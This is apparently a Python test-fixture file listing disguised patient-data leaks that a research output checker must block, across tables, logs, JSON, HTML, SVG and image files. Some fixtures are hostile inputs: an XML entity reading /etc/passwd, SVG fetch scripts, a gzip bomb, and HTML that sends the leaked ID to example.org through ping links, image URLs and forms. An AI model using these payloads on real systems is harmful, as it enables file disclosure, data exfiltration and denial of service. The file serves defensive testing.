"""Leaks that happened, were tried, or are easily made: every one of these must be held back.

Name of the case -> (name of the file, its content). Of `job.log`, the job's own log, the lines that
hold LEAKED must be cut and all others stay.
"""

import gzip
import io
import json
import sqlite3
import struct
import zipfile
import zlib

from tests.outputs.ordinary import GGPLOT, R_MARKDOWN, Cases, data_url, jpeg, png

LEAKED = "4711"
ROWS = f"patient_id,age,sex\n{LEAKED},34,F\n{LEAKED},40,M\n"
PANDAS = f"   patient_id  age sex\n0        {LEAKED}   34   F\n1        {LEAKED}   40   M\n"


def zipped(text: str) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w") as archive:
        archive.writestr("x.csv", text)
    return whole.getvalue()


def database() -> bytes:
    made = sqlite3.connect(":memory:")
    made.execute("CREATE TABLE cohort (patient_id INTEGER)")
    return made.serialize()


def in_page(inner: str) -> bytes:
    return R_MARKDOWN.replace("</body>", f"{inner}</body>").encode()


COLUMNS: Cases = {
    "in capitals": ("t.csv", b"PATIENT_ID,age\n1,2\n"),
    "with spaces around": ("t.csv", b" patient_id ,age\n1,2\n"),
    "as PatientID": ("t.csv", b"age,PatientID\n1,2\n"),
    "as Patient ID": ("t.csv", b"age,Patient ID\n1,2\n"),
    "behind a mark": ("t.csv", b"\xef\xbb\xbfpatient_id,age\n1,2\n"),
    "between semicolons": ("t.csv", b"patient_id;age\n1;2\n"),
    "between tabs": ("t.csv", b"age\tpatient_id\n1\t2\n"),
    "between bars": ("t.csv", b"age|patient_id\n1|2\n"),
    "between spaces": ("t.csv", b"age patient_id\n1 2\n"),
    "in quotation marks": ("t.csv", b'"age","patient_id"\n1,2\n'),
    "below a comment": ("t.csv", b"# made today\npatient_id,age\n1,2\n"),
    "in a comment": ("t.csv", b"#patient_id,age\n1,2\n"),
    "below another table": ("t.csv", b"a,b\n1,2\n\npatient_id,age\n1,2\n"),
    "below another table of the same width": ("t.csv", b"a,b\nx,y\npatient_id,age\n1,2\n"),
    "beside bytes that are not UTF-8": ("t.csv", b"patient_id,caf\xe9\n1,2\n"),
    "behind a very long field": ("t.csv", b"x,patient_id\n" + b"y" * 200_000 + b",1\n"),
    "behind a field longer than any line": ("t.csv", b"x" * 3_000_000 + b",patient_id\n1,2\n"),
    "in UTF-16": ("t.csv", ROWS.encode("utf-16")),
    "in UTF-16 without a mark": ("t.csv", ROWS.encode("utf-16-le")),
    "in UTF-32": ("t.csv", ROWS.encode("utf-32")),
    "in EBCDIC": ("t.csv", ROWS.encode("cp037")),
    "with old line ends": ("t.csv", ROWS.replace("\n", "\r").encode()),
    "without rows": ("t.csv", b"patient_id\n"),
    "as a join leaves it": ("t.csv", b"patient_id_x,age\n1,2\n"),
    "with a letter nobody sees": ("t.csv", "patient\u200b_id,age\n1,2\n".encode()),
    "in full-width letters": ("t.csv", "ｐatient_ｉd,age\n1,2\n".encode()),
    "between tildes": ("t.csv", b"age~patient_id\n1~2\n"),
    "between carets": ("t.csv", b"age^patient_id\n1^2\n"),
    "with a soft hyphen": ("t.csv", "patient\u00ad_id,age\n1,2\n".encode()),
    "with an underscore of full width": ("t.csv", "patient＿id,age\n1,2\n".encode()),
    "with NULs": ("t.csv", b"p\0atient_id,age\n1,2\n"),
    "behind a form feed": ("t.csv", b"a,b\x0cpatient_id,age\n1,2\n"),
    "behind a line end of Unicode": ("t.csv", "a,b\u0085patient_id,age\u00851,2\n".encode()),
    "5,001 rows": ("t.csv", b"n\n" + b"1\n" * 5001),
    "6,000 rows in an open quotation": ("t.csv", b'a,"b\n' + b"1,2\n" * 6000),
}

TEXTS: Cases = {
    "commas in text": ("t.txt", f"Results\n\n{ROWS}".encode()),
    "identifiers of letters and figures": ("t.txt", b"patient_id;sex\nP001;F\n"),
    "identifiers that are words": ("t.txt", b"patient_id,age\nalice,34\nbob,40\n"),
    "what pandas prints": ("t.txt", PANDAS.encode()),
    "what R prints": ("t.txt", b"  patient_id age\n1       4711  34\n2       4712  40\n"),
    "what tidyverse prints": (
        "t.txt",
        "# A tibble: 2 × 2\n  patient_id   age\n       <dbl> <dbl>\n1       4711    34\n2       4712    40\n".encode(),
    ),
    "what polars prints": (
        "t.txt",
        "┌────────────┬─────┐\n│ patient_id ┆ age │\n│ ---        ┆ --- │\n│ i64        ┆ i64 │\n╞════════════╪═════╡\n│ 4711       ┆ 34  │\n└────────────┴─────┘\n".encode(),
    ),
    "what Stata prints": (
        "t.log",
        b"     +----------------+\n     | patien~d   age |\n     |----------------|\n  1. |     4711    34 |\n  2. |     4712    40 |\n     +----------------+\n",
    ),
    "what Stata tabulates": (
        "t.log",
        b" patient_id |      Freq.     Percent\n------------+----------------------\n       4711 |          1        0.10\n",
    ),
    "R's str()": (
        "t.log",
        b"'data.frame':\t2 obs. of  2 variables:\n $ patient_id: int  4711 4712\n $ age       : int  34 40\n",
    ),
    "R's glimpse()": (
        "t.log",
        b"Rows: 2\nColumns: 2\n$ patient_id <dbl> 4711, 4712\n$ age        <dbl> 34, 40\n",
    ),
    "what ehrQL shows": (
        "t.log",
        b"patient_id        | age\n------------------+------\n4711              | 34\n",
    ),
    "names of rows without a header": ("t.txt", b'"patient_id" "age"\n"1" 4711 34\n"2" 4712 40\n'),
    "records of Python": ("t.log", b"got {'patient_id': 4711, 'age': 34}\n"),
    "records of YAML": ("t.txt", b"- patient_id: 4711\n  age: 34\n- patient_id: 4712\n"),
    "records of XML": ("t.txt", b"<row><patient_id>4711</patient_id></row>\n"),
    "JSON lines with escaped letters": ("t.log", b'{"\\u0070atient_id": 4711}\n'),
    "Markdown": ("t.md", b"# T\n\n| age | patient_id |\n|-----|------------|\n| 34 | 4711 |\n"),
    "Markdown in bold, without rows": ("t.md", b"| age | **patient_id** |\n|-----|------------|\n"),
    "HTML in Markdown": ("t.md", b"# T\n\n<table><tr><th>\npatient_id\n</th></tr></table>\n"),
    "LaTeX": (
        "t.txt",
        b"\\begin{tabular}{ll}\npatient\\_id & age \\\\\n\\hline\n4711 & 34 \\\\\n\\end{tabular}\n",
    ),
    "attributes of XML": ("t.txt", b'<row age="34" patient_id="4711"/>\n'),
    "a grid of reStructuredText": (
        "t.md",
        b"+------------+-----+\n| patient_id | age |\n+============+=====+\n| 4711       | 34  |\n",
    ),
    "Markdown with escaped signs": ("t.md", b"| patient\\_id | age |\n|---|---|\n| 4711 | 3 |\n"),
    "packed text behind words": ("t.txt", b"hello\n" + gzip.compress(ROWS.encode() * 50)),
    "6,000 rows": ("t.txt", b"group\tn\n" + b"a\t5\n" * 6000),
    "UTF-16 text": ("t.txt", ROWS.encode("utf-16")),
}

OBJECTS: Cases = {
    "a list of records": ("t.json", b'[{"patient_id": 4711, "age": 34}]'),
    "escaped letters": ("t.json", b'{"a": {"\\u0070atient_id": 4711}}'),
    "capitals": ("t.json", b'{"Patient ID": [4711]}'),
    "columns beside rows": ("t.json", b'{"columns": ["patient_id", "age"], "data": [[4711, 34]]}'),
    "a list of lists": ("t.json", b'[["patient_id", "age"], [4711, 34]]'),
    "a table in a string": ("t.json", json.dumps({"text": ROWS}).encode()),
    "a page in a string": ("t.json", json.dumps({"html": "<th>patient_id</th>"}).encode()),
    "a list of lines": ("t.json", json.dumps(ROWS.splitlines()).encode()),
    "lines of a notebook": ("t.json", json.dumps({"text": PANDAS.splitlines(True)}).encode()),
    "JSON in a string": ("t.json", json.dumps({"x": json.dumps([{"patient_id": 1}])}).encode()),
    "a key that stands twice": ("t.json", b'[{"patient_id": 4711, "patient_id": 1}]'),
    "a key with a letter nobody sees": ("t.json", '[{"patient\u200b_id": 1}]'.encode()),
    "JSON behind JSON": ("t.json", b'{} [{"patient_id": 4711}]'),
    "6,000 records": ("t.json", json.dumps([{"age": 1}] * 6000).encode()),
    "broken JSON": ("t.json", b'{"a": [1, 2'),
    "Python instead of JSON": ("t.json", b"{'patient_id': 4711}"),
    "UTF-16 records": ("t.json", '{"patient_id": 4711}'.encode("utf-16")),
}

PAGES: Cases = {
    "a header": ("t.html", in_page("<table><tr><th>age</th><th>Patient_ID</th></tr></table>")),
    "cells alone": (
        "t.html",
        in_page(f"<table><tr><td>patient_id<td>age<tr><td>{LEAKED}<td>34</table>"),
    ),
    "letters as numbers": ("t.html", in_page("<th>&#112;atient&#x5f;id</th>")),
    "a name in pieces": (
        "t.html",
        in_page("<table><tr><th><b>patient</b>_<i>id</i></th></tr></table>"),
    ),
    "printed output": ("t.html", in_page(f"<pre>{PANDAS}</pre>")),
    "a script": ("t.html", in_page(f'<script>var d = [{{"patient_id": {LEAKED}}}];</script>')),
    "a widget's script": (
        "t.html",
        in_page(
            '<script type="application/json">{"container":"<table><th>patient_id<\\/th>"}</script>'
        ),
    ),
    "a script's string": ("t.html", in_page(f"<script>var d = {json.dumps(ROWS)}</script>")),
    "a name with a place to break": ("t.html", in_page("<th>patient<wbr>_id</th>")),
    "a page in UTF-16": ("t.html", "<table><tr><th>patient_id</th></table>".encode("utf-16")),
    "an escaped attribute": (
        "t.html",
        in_page('<div data-x="[{&quot;patient_id&quot;: 4711}]"></div>'),
    ),
    "a form that is sent elsewhere": (
        "t.html",
        in_page('<form action="https://example.org"><input value="4711"></form>'),
    ),
    "a link that tells on its reader": (
        "t.html",
        in_page('<a href="#x" ping="https://example.org/4711">x</a>'),
    ),
    "a base elsewhere": ("t.html", in_page('<base href="https://example.org/">')),
    "a comment": ("t.html", in_page(f"<!--\n{ROWS}-->")),
    "an attribute": ("t.html", in_page(f'<div data-rows="{ROWS}"></div>')),
    "behind an attribute that is never closed": (
        "t.html",
        in_page("<p title=it's><table><tr><th>patient_id</th></tr></table><p title=it's>"),
    ),
    "behind an empty comment": (
        "t.html",
        in_page(f"<!--><table><tr><td>patient_id<td>age<tr><td>{LEAKED}<td>34</table><!-- -->"),
    ),
    "a page in a page": (
        "t.html",
        in_page("<iframe srcdoc='<table><tr><th>patient_id</th></tr></table>'></iframe>"),
    ),
    "a file to download": (
        "t.html",
        in_page(f'<a href="{data_url("text/csv", ROWS.encode())}">data</a>'),
    ),
    "a table that says it is an image": (
        "t.html",
        in_page(f'<img src="{data_url("image/png", ROWS.encode())}">'),
    ),
    "a table behind an embedded image": (
        "t.html",
        in_page(f'<img src="{data_url("image/png", png() + ROWS.encode())}">'),
    ),
    "a table in an embedded figure": (
        "t.html",
        in_page(
            f'<img src="{data_url("image/svg+xml", f"<svg><desc>{chr(10)}{ROWS}</desc></svg>".encode())}">'
        ),
    ),
    "an image from elsewhere": ("t.html", in_page('<img src="https://example.org/x.png?d=4711">')),
    "a script from elsewhere": (
        "t.html",
        in_page('<script src="//cdn.example.org/x.js"></script>'),
    ),
    "data in the name of a library": (
        "t.html",
        in_page(f'<script src="https://cdnjs.cloudflare.com/{"4711-" * 40}"></script>'),
    ),
    "an image where libraries are": (
        "t.html",
        in_page('<img src="https://cdnjs.cloudflare.com/x.png">'),
    ),
    "a style from elsewhere": (
        "t.html",
        in_page("<style>@import 'https://example.org/x.css';</style>"),
    ),
    "an image of a style from elsewhere": (
        "t.html",
        in_page('<p style="background: u\\72l(https://example.org/x)">'),
    ),
    "a page that leads elsewhere": (
        "t.html",
        in_page('<meta http-equiv="refresh" content="0; url=https://example.org">'),
    ),
    "6,000 rows": ("t.html", in_page("<table>" + "<tr><td>a</td></tr>" * 6000 + "</table>")),
    "markup that does not end": ("t.html", in_page("") + b"<!-- "),
    "commas in a page": ("t.html", ROWS.encode()),
}

FIGURES: Cases = {
    "a figure with a script": ("f.svg", b"<svg><script>fetch('x')</script></svg>"),
    "a figure that acts when loaded": ("f.svg", b'<svg onload="fetch(1)"></svg>'),
    "a figure with a table in its description": (
        "f.svg",
        f"<svg><desc>\n{ROWS}</desc></svg>".encode(),
    ),
    "a figure with a page in it": (
        "f.svg",
        b"<svg><foreignObject><table><tr><th>patient_id</th></tr></table></foreignObject></svg>",
    ),
    "a figure with entities": (
        "f.svg",
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    ),
    "a figure with a style from elsewhere": (
        "f.svg",
        b'<?xml version="1.0"?><?xml-stylesheet href="https://example.org/x.css"?><svg></svg>',
    ),
    "a figure with records in its metadata": (
        "f.svg",
        b"<svg><metadata><patient_id>4711</patient_id></metadata></svg>",
    ),
    "a figure with a table set apart": ("f.svg", f"<svg><![CDATA[{ROWS}]]></svg>".encode()),
    "a figure in UTF-16": (
        "f.svg",
        f'<?xml version="1.0" encoding="utf-16"?><svg><desc>{ROWS}</desc></svg>'.encode("utf-16"),
    ),
    "a figure that loads another": (
        "f.svg",
        b'<svg><image href="http://example.org/x.png"/></svg>',
    ),
    "text that says it is a figure": ("f.svg", ROWS.encode()),
    "a packed table": ("f.svgz", gzip.compress(ROWS.encode())),
    "a packed figure with a table": (
        "f.svgz",
        gzip.compress(f"<svg><desc>\n{ROWS}</desc></svg>".encode()),
    ),
    "a bomb": ("f.svgz", gzip.compress(b"<svg>" + b" " * (1 << 27) + b"</svg>")),
    "something behind what is packed": ("f.svgz", gzip.compress(GGPLOT.encode()) + ROWS.encode()),
    "a comment in what is packed": (
        "f.svgz",
        b"\x1f\x8b\x08\x10"
        + gzip.compress(GGPLOT.encode())[4:10]
        + b"4711\0"
        + gzip.compress(GGPLOT.encode())[10:],
    ),
    "a figure that is not packed": ("f.svgz", GGPLOT.encode()),
    "text that says it is a PNG": ("f.png", ROWS.encode()),
    "a table behind a PNG": ("f.png", png() + ROWS.encode()),
    "a zip behind a PNG": ("f.png", png() + zipped(ROWS)),
    "a part of a PNG that nobody knows": ("f.png", png((b"prVt", ROWS.encode()))),
    "a table in a text of a PNG": ("f.png", png((b"tEXt", b"Comment\0" + ROWS.encode()))),
    "a table packed in a text of a PNG": (
        "f.png",
        png((b"zTXt", b"Comment\0\0" + zlib.compress(ROWS.encode()))),
    ),
    "a long text of a PNG": ("f.png", png((b"tEXt", b"Comment\0" + b"a" * 100_000))),
    "a PNG without an end": ("f.png", png()[:-12]),
    "a table behind a JPEG": ("f.jpg", jpeg() + ROWS.encode()),
    "a table in a comment of a JPEG": ("f.jpg", jpeg((0xFE, ROWS.encode()))),
    "a long comment of a JPEG": ("f.jpg", jpeg((0xFE, b"x" * 60_000), (0xFE, b"x" * 60_000))),
    "a PNG that says it is a JPEG": ("f.jpg", png()),
}

DISGUISES: Cases = {
    "a zip as a table": ("t.csv", zipped(ROWS)),
    "a page as a table": ("t.csv", b"<html><table><tr><td>patient_id</td></tr></table></html>"),
    "a database as a table": ("t.csv", database()),
    "feather as a table": ("t.csv", b"ARROW1\0\0" + struct.pack("<q", 1)),
    "feather of old as text": ("t.txt", b"FEA1" + b"x" * 20),
    "packed text": ("t.txt", gzip.compress(ROWS.encode())),
    "R's own format": ("t.log", b"RDX3\nX\n" + b"\0\0\0\x03"),
    "a Stata file": ("t.txt", b"<stata_dta><header>"),
    "a PDF as a page": ("t.html", b"%PDF-1.7 <p>"),
    "a spreadsheet": ("t.md", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "another type": ("t.rds", b"x"),
    "a type in capitals": ("t.CSV", b"n\n1\n"),
    "two types": ("t.csv.gz", b"n\n1\n"),
    "no type": ("t", b"n\n1\n"),
    "a file above the limit": ("t.txt", b"x" * (16 * 1024 * 1024 + 1)),
}

LOGS: Cases = {
    what: ("job.log", f"before\n{text}after\n".encode(encoding))
    for what, text, encoding in [
        ("commas", ROWS, "utf-8"),
        (
            "what pandas prints, with the engine's times",
            "".join(f"2026-11-22T17:30:46.123456789Z {line}\n" for line in PANDAS.splitlines()),
            "utf-8",
        ),
        (
            "what R prints",
            f"  patient_id age\n1       {LEAKED}  34\n2       {LEAKED}  40\n",
            "utf-8",
        ),
        ("a row far below", f"{ROWS}working\nworking\n{LEAKED},41,F\n", "utf-8"),
        ("a record", f"{{'patient_id': {LEAKED}, 'age': 34}}\n", "utf-8"),
        ("Latin-1", f"patient_id;caf\xe9\n{LEAKED};1\n", "latin-1"),
        ("UTF-16 without a mark", ROWS, "utf-16-le"),
        ("R's str()", f" $ patient_id: int  {LEAKED} 4712\n", "utf-8"),
    ]
}

ALL: Cases = {
    f"{kind}: {what}": case
    for kind, cases in {
        "column": COLUMNS,
        "text": TEXTS,
        "JSON": OBJECTS,
        "page": PAGES,
        "figure": FIGURES,
        "disguise": DISGUISES,
        "log": LOGS,
    }.items()
    for what, case in cases.items()
}
